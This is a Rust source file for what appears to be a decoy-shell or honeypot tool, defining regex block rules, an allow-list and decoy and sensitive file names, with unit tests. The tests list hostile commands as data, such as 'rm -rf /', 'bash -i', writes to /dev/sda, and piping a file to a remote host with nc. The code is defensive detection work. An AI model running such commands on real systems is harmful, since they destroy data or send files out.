//! Allow/block policy
//!
//! Block rules are an ordered list of case-insensitive predicates over the
//! raw input; first match wins. The allow-list is a fixed command set.
//! Sensitive and decoy file names are matched as substrings, ignoring case.

use lure_core::{Error, Result};
use regex::Regex;

/// What a block rule is protecting against
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BlockCategory {
    /// rm, del, format, shutdown, reboot
    Destructive,
    /// powershell, cmd.exe, bash, /bin/sh
    ShellEscape,
    /// curl, wget, ssh, nmap, metasploit...
    RemoteAccess,
    /// writes to /dev, mkfs, dd
    RawDevice,
    /// Operator-supplied pattern
    Custom,
}

impl BlockCategory {
    pub fn name(&self) -> &str {
        match self {
            Self::Destructive => "destructive",
            Self::ShellEscape => "shell_escape",
            Self::RemoteAccess => "remote_access",
            Self::RawDevice => "raw_device",
            Self::Custom => "custom",
        }
    }
}

/// One block predicate
#[derive(Debug, Clone)]
pub struct BlockRule {
    /// Rule name, written to the log
    pub name: String,
    pub category: BlockCategory,
    regex: Regex,
}

impl BlockRule {
    /// Compile a rule; the pattern is matched case-insensitively
    pub fn new(name: impl Into<String>, category: BlockCategory, pattern: &str) -> Result<Self> {
        let regex = Regex::new(&format!("(?i){}", pattern)).map_err(|e| Error::InvalidPattern {
            pattern: pattern.to_string(),
            reason: e.to_string(),
        })?;

        Ok(Self {
            name: name.into(),
            category,
            regex,
        })
    }

    pub fn matches(&self, input: &str) -> bool {
        self.regex.is_match(input)
    }
}

/// Commands eligible for simulated execution
pub const ALLOW_LIST: [&str; 15] = [
    "help", "ls", "dir", "whoami", "pwd", "cd", "cat", "type", "echo", "clear", "uname", "id",
    "date", "ps", "netstat",
];

/// File names whose access counts as a violation
pub const SENSITIVE_FILES: [&str; 2] = ["secrets.txt", "keys.backup"];

/// Readable decoy files and their canned contents
const DECOY_FILES: [(&str, &str); 3] = [
    (
        "notes.log",
        "[system] routine maintenance completed\n[auth] login failures detected\n",
    ),
    ("report.txt", "Quarterly summary: all systems nominal. (simulated)\n"),
    ("readme.md", "# README\nDecoy workstation environment.\n"),
];

/// Complete classification policy
#[derive(Debug, Clone)]
pub struct Policy {
    block_rules: Vec<BlockRule>,
}

impl Policy {
    /// Built-in rules only
    pub fn standard() -> Self {
        let block_rules = builtin_rules()
            .iter()
            .filter_map(|(name, category, pattern)| BlockRule::new(*name, *category, pattern).ok())
            .collect();

        Self { block_rules }
    }

    /// Built-in rules followed by operator patterns, in order
    pub fn with_extra_patterns(patterns: &[String]) -> Result<Self> {
        let mut policy = Self::standard();
        for (i, pattern) in patterns.iter().enumerate() {
            policy.block_rules.push(BlockRule::new(
                format!("custom_{}", i + 1),
                BlockCategory::Custom,
                pattern,
            )?);
        }
        Ok(policy)
    }

    pub fn block_rules(&self) -> &[BlockRule] {
        &self.block_rules
    }

    /// First block rule matching `input`
    pub fn blocking_rule(&self, input: &str) -> Option<&BlockRule> {
        self.block_rules.iter().find(|rule| rule.matches(input))
    }

    /// Whether `base` (already lowercased) is on the allow-list
    pub fn is_allowed(&self, base: &str) -> bool {
        ALLOW_LIST.contains(&base)
    }

    /// Whether `target` names a sensitive file anywhere in it
    pub fn is_sensitive(&self, target: &str) -> bool {
        let lower = target.to_lowercase();
        SENSITIVE_FILES.iter().any(|name| lower.contains(name))
    }

    /// Canned contents for a decoy file named anywhere in `target`
    pub fn decoy_content(&self, target: &str) -> Option<&'static str> {
        let lower = target.to_lowercase();
        DECOY_FILES
            .iter()
            .find(|(name, _)| lower.contains(name))
            .map(|(_, content)| *content)
    }
}

impl Default for Policy {
    fn default() -> Self {
        Self::standard()
    }
}

fn builtin_rules() -> [(&'static str, BlockCategory, &'static str); 4] {
    [
        (
            "destructive",
            BlockCategory::Destructive,
            r"(^|\s)(rm|del|format|shutdown|reboot)(?-u:\b)",
        ),
        (
            "shell_escape",
            BlockCategory::ShellEscape,
            r"(?-u:\b)(powershell|cmd\.exe|bash|/bin/sh)(?-u:\b)",
        ),
        (
            "remote_access",
            BlockCategory::RemoteAccess,
            r"(?-u:\b)(curl|wget|nc|netcat|ssh|scp|nmap|msf|meterpreter)(?-u:\b)",
        ),
        ("raw_device", BlockCategory::RawDevice, r">\s*/dev/|mkfs|dd\s+"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtins_compile() {
        assert_eq!(Policy::standard().block_rules().len(), builtin_rules().len());
    }

    #[test]
    fn test_block_rules_by_category() {
        let policy = Policy::standard();
        let cases = [
            ("rm -rf /", BlockCategory::Destructive),
            ("sudo reboot", BlockCategory::Destructive),
            ("SHUTDOWN now", BlockCategory::Destructive),
            ("bash -i", BlockCategory::ShellEscape),
            ("start cmd.exe", BlockCategory::ShellEscape),
            ("PowerShell -enc AAAA", BlockCategory::ShellEscape),
            ("curl http://x", BlockCategory::RemoteAccess),
            ("ssh root@10.0.0.1", BlockCategory::RemoteAccess),
            ("cat notes.log | nc 1.2.3.4 80", BlockCategory::RemoteAccess),
            ("echo x > /dev/sda", BlockCategory::RawDevice),
            ("dd if=/dev/zero", BlockCategory::RawDevice),
            ("mkfs.ext4 /dev/sdb", BlockCategory::RawDevice),
        ];

        for (input, category) in cases {
            let rule = policy.blocking_rule(input);
            assert_eq!(rule.map(|r| r.category), Some(category), "input: {}", input);
        }
    }

    #[test]
    fn test_first_match_wins() {
        let policy = Policy::standard();
        // destructive and remote access both match; destructive is first
        let rule = policy.blocking_rule("rm x; curl y").unwrap();
        assert_eq!(rule.name, "destructive");
    }

    #[test]
    fn test_benign_inputs_pass() {
        let policy = Policy::standard();
        for input in ["ls", "cd Documents", "cat notes.log", "date", "echo hello", "whoami", "dir"] {
            assert!(policy.blocking_rule(input).is_none(), "input: {}", input);
        }
    }

    #[test]
    fn test_non_ascii_letters_end_words() {
        let policy = Policy::standard();
        for input in ["curlé http://x", "sshé root@h", "éwget x"] {
            let rule = policy.blocking_rule(input).unwrap_or_else(|| panic!("input: {}", input));
            assert_eq!(rule.category, BlockCategory::RemoteAccess, "input: {}", input);
        }
        assert_eq!(policy.blocking_rule("rmé x").unwrap().category, BlockCategory::Destructive);
    }

    #[test]
    fn test_extra_patterns_append() {
        let policy = Policy::with_extra_patterns(&[r"\bpython3?\b".to_string()]).unwrap();
        let rule = policy.blocking_rule("python3 -c 'x'").unwrap();
        assert_eq!(rule.category, BlockCategory::Custom);
        assert_eq!(rule.name, "custom_1");
    }

    #[test]
    fn test_bad_extra_pattern() {
        let result = Policy::with_extra_patterns(&["(".to_string()]);
        assert!(matches!(result, Err(Error::InvalidPattern { .. })));
    }

    #[test]
    fn test_sensitive_substring_any_case() {
        let policy = Policy::standard();
        assert!(policy.is_sensitive("secrets.txt"));
        assert!(policy.is_sensitive("/home/guest/SECRETS.TXT"));
        assert!(policy.is_sensitive("Documents/keys.backup.old"));
        assert!(!policy.is_sensitive("secrets_txt"));
    }

    #[test]
    fn test_decoy_content() {
        let policy = Policy::standard();
        assert!(policy.decoy_content("Notes.LOG").unwrap().contains("maintenance"));
        assert!(policy.decoy_content("Documents/report.txt").is_some());
        assert!(policy.decoy_content("setup.bin").is_none());
    }
}
